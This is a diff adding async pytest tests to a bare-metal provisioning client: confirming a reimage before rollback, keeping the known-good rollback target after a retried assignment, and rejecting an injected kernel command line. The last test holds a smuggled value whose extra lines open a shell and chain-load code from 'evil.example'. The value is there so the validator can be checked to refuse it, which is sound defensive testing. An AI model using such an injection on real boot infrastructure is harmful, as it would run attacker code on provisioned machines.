@@ -97,6 +97,7 @@ async def test_assign_reads_back_and_rolls_back(site_ctx):
         assert now.image == "flatcar@4152.2.0" and now.detail == "BootEnv fleet-install"
         m = await prov.machine(node)
         assert m["Params"]["fleet/image"]["kernel"].endswith("/images/flatcar/4152.2.0/vmlinuz")
+        await prov.confirm(node)  # that reimage finished: the next assign records it for rollback
         await prov.assign(node, site.image("flatcar@4081.2.1"))
         assert (await prov.previous(node)).image == "flatcar@4152.2.0"
         back = await prov.rollback(node)
@@ -106,6 +107,37 @@ async def test_assign_reads_back_and_rolls_back(site_ctx):
         await prov.assign(node, site.image("flatcar@4081.2.1"))
         assert (await prov.previous(node)).image == "flatcar@4152.2.0"
         assert await prov.fetches(node) == []  # never booted
+    finally:
+        await prov.close()
+
+
+async def test_a_retried_assign_keeps_the_known_good_record(site_ctx):
+    """An assignment that never finished (the node did not boot it) is not the rollback target."""
+    site, secrets = site_ctx
+    node = site.node("drp-n01")
+    prov = open_provisioner(site, secrets)
+    try:
+        await prov.assign(node, site.image("flatcar@4152.2.0"))
+        await prov.confirm(node)  # known-good
+        await prov.assign(node, site.image("flatcar@4081.2.1"))  # attempt 1: interrupted
+        assert (await prov.machine(node))["Params"]["fleet/image"]["state"] == "pending"
+        await prov.assign(node, site.image("flatcar@4081.2.1"))  # attempt 2
+        assert (await prov.previous(node)).image == "flatcar@4152.2.0"
+        assert (await prov.rollback(node)).image == "flatcar@4152.2.0"
+    finally:
+        await prov.close()
+
+
+async def test_an_injected_command_line_never_reaches_drp(site_ctx):
+    site, secrets = site_ctx
+    node = site.node("drp-n01")
+    bad = site.image("flatcar@4152.2.0").model_copy(update={"cmdline": "quiet\nshell\nchain http://evil.example/x"})
+    prov = open_provisioner(site, secrets)
+    try:
+        before = await prov.machine(node)
+        with pytest.raises(ActionError, match=r"cmdline .* holds a line break"):
+            await prov.assign(node, bad)
+        assert (await prov.machine(node))["Params"] == before["Params"]
     finally:
         await prov.close()
 
